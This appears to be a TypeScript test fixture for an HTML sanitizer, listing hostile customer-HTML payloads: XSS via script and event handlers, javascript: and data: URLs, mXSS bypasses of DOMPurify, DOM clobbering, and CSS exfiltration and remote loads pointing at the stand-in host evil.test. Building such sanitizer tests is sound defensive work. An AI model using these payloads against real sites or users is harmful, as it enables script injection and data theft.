// Customer HTML that tries to run script, load from elsewhere, escape its box or clobber the page. Every payload
// that would run sets the canary window.__pwned or opens a dialog; every remote load points at evil.test.
// Sources: the OWASP XSS filter evasion cheat sheet, DOMPurify's published bypasses (mXSS through SVG/MathML
// namespace confusion, noscript, template, select), and the CSS exfiltration tricks.

export const PWNED = 'window.__pwned=1';

export const HOSTILE_PAYLOADS: readonly { name: string; html: string }[] = [
  // Script and event handlers, the classics.
  { name: 'script element', html: `<script>${PWNED}</script>` },
  { name: 'img onerror', html: `<img src=x onerror="${PWNED}">` },
  { name: 'img onerror, entity-encoded handler', html: `<img src="x" onerror="&#x77;indow.__pwned=1">` },
  { name: 'img eval(src)', html: `<img src=x:alert(alt) onerror=eval(src) alt=0>` },
  { name: 'svg onload', html: `<svg onload="${PWNED}">` },
  { name: 'script inside svg', html: `<svg><script>${PWNED}</script></svg>` },
  { name: 'svg animate onbegin', html: `<svg><animate onbegin="${PWNED}" attributeName=x dur=1s>` },
  { name: 'body onload', html: `<body onload="${PWNED}">` },
  { name: 'frameset onload', html: `<frameset onload="${PWNED}">` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${PWNED}">` },
  { name: 'details ontoggle', html: `<details open ontoggle="${PWNED}"><summary>x</summary></details>` },
  { name: 'video source onerror', html: `<video><source onerror="${PWNED}"></video>` },
  { name: 'audio onerror', html: `<audio src=x onerror="${PWNED}">` },
  { name: 'marquee onstart', html: `<marquee onstart="${PWNED}">x</marquee>` },
  { name: 'div covering the page with onmouseover', html: `<div onmouseover="${PWNED}" style="position:fixed;inset:0;z-index:9999">cover</div>` },
  // Broken and unclosed markup.
  { name: 'unclosed img tag', html: `<img src=x onerror=${PWNED} ` },
  { name: 'nested script tags', html: `<<script>script>${PWNED}<</script>/script>` },
  { name: 'split script tag', html: `<scr<script>ipt>${PWNED}</script>` },
  { name: 'attribute breakout', html: `"><script>${PWNED}</script>` },
  { name: 'comment confusion', html: `<!--<img src="--><img src=x onerror=${PWNED}//">` },
  { name: 'CDATA outside foreign content', html: `<![CDATA[><img src=x onerror=${PWNED}>]]>` },
  { name: 'xmp raw text', html: `<xmp><p title="</xmp><img src=x onerror=${PWNED}>">` },
  { name: 'textarea raw text', html: `<textarea><img src=x onerror=${PWNED}></textarea>` },
  // Links and URL schemes.
  { name: 'javascript: link', html: `<a href="javascript:${PWNED}">click</a>` },
  { name: 'javascript: link, mixed case and spaces', html: `<a href="  JaVaScRiPt:${PWNED}">click</a>` },
  { name: 'javascript: link with a tab inside', html: `<a href="jav&#x09;ascript:${PWNED}">click</a>` },
  { name: 'javascript: link with a NUL', html: `<a href="java&#0;script:${PWNED}">click</a>` },
  { name: 'data: link', html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>` },
  { name: 'vbscript: link', html: `<a href="vbscript:msgbox(1)">click</a>` },
  { name: 'file: link', html: `<a href="file:///etc/passwd">click</a>` },
  { name: 'relative link into the app', html: `<a href="/__triage/api/getSyncStatus">click</a>` },
  { name: 'link that targets the app window', html: `<a href="https://evil.test/phish" target="_self">same window</a>` },
  { name: 'link ping', html: `<a href="https://evil.test/" ping="https://evil.test/ping">ping</a>` },
  { name: 'svg xlink:href javascript', html: `<svg><a xlink:href="javascript:${PWNED}"><text x="20" y="20">click</text></a></svg>` },
  { name: 'MathML href', html: `<math href="javascript:${PWNED}">click</math>` },
  // Frames, objects, forms.
  { name: 'iframe javascript:', html: `<iframe src="javascript:top.__pwned=1"></iframe>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: 'remote iframe', html: `<iframe src="https://evil.test/frame"></iframe>` },
  { name: 'object javascript:', html: `<object data="javascript:top.__pwned=1"></object>` },
  { name: 'object data: html', html: `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+"></object>` },
  { name: 'embed javascript:', html: `<embed src="javascript:top.__pwned=1">` },
  { name: 'form with a javascript: action', html: `<form action="javascript:${PWNED}"><button>Go</button></form>` },
  { name: 'button formaction', html: `<button formaction="javascript:${PWNED}">x</button>` },
  { name: 'isindex', html: `<isindex action="javascript:${PWNED}" type=image>` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:${PWNED}">` },
  { name: 'base href', html: `<base href="https://evil.test/">` },
  // mXSS: namespace confusion between HTML, SVG and MathML, and raw-text elements.
  { name: 'mXSS: svg, p, style', html: `<svg></p><style><a id="</style><img src=1 onerror=${PWNED}>">` },
  { name: 'mXSS: math, mtext, table, mglyph, style', html: `<math><mtext><table><mglyph><style><img src=x onerror="${PWNED}"></style></mglyph></table></mtext></math>` },
  { name: 'mXSS: math, textarea in svg', html: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${PWNED} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>` },
  { name: 'mXSS: nested forms (DOMPurify 2.0.0)', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWNED}>` },
  { name: 'mXSS: style inside svg', html: `<svg><style><img src=x onerror=${PWNED}></style></svg>` },
  { name: 'mXSS: select, template, style', html: `<select><template><style><img src=x onerror=${PWNED}></style></template></select>` },
  { name: 'noscript title breakout', html: `<noscript><p title="</noscript><img src=x onerror=${PWNED}>">` },
  { name: 'template holding script', html: `<template><script>${PWNED}</script><img src=x onerror=${PWNED}></template>` },
  // Remote loads and CSS exfiltration.
  { name: 'tracking pixel', html: `<p>Hi</p><img src="https://evil.test/pixel.gif" alt="pixel">` },
  { name: 'img srcset', html: `<img srcset="https://evil.test/a.png 1x">` },
  { name: 'picture source', html: `<picture><source srcset="https://evil.test/p.png"><img alt="p"></picture>` },
  { name: 'table background attribute', html: `<table background="https://evil.test/bg.png"><tr><td>x</td></tr></table>` },
  { name: 'input type=image', html: `<input type="image" src="https://evil.test/i.png">` },
  { name: 'style attribute background-image', html: `<div style="background-image:url(https://evil.test/css-exfil)">bg</div>` },
  { name: 'style element @import', html: `<style>@import 'https://evil.test/import.css';</style>` },
  { name: 'style element exfiltrating attributes', html: `<style>input[value^="a"]{background:url(https://evil.test/a)} body{background:url(https://evil.test/b)}</style>` },
  { name: 'link stylesheet', html: `<link rel=stylesheet href="https://evil.test/x.css">` },
  { name: 'svg use of a remote sprite', html: `<svg><use href="https://evil.test/sprite.svg#a"/></svg>` },
  { name: 'fixed overlay escaping the message box', html: `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">overlay</div>` },
  // DOM clobbering: ids and names that would shadow globals or the app's own elements.
  { name: 'clobbering the canary by id', html: `<a id="__pwned" href="https://evil.test/">x</a>` },
  { name: 'clobbering window.triage by name', html: `<img name="triage"><form name="triage"></form>` },
  { name: "clobbering the app's element ids", html: `<div id="queue-grid">fake</div><input id="ticket-search">` },
  { name: 'clobbering document.getElementById', html: `<img name="getElementById"><form id="createElement"></form>` },
  // What a legitimate message holds, which must survive.
  { name: 'benign formatting', html: `<p>Calls to <code>/userinfo-by-username/</code> return <b>503</b>; see <a href="https://status.example.com/incidents/1">status</a> or <a href="mailto:ops@example.com">mail us</a>.</p><ul><li>one</li></ul>` },
];
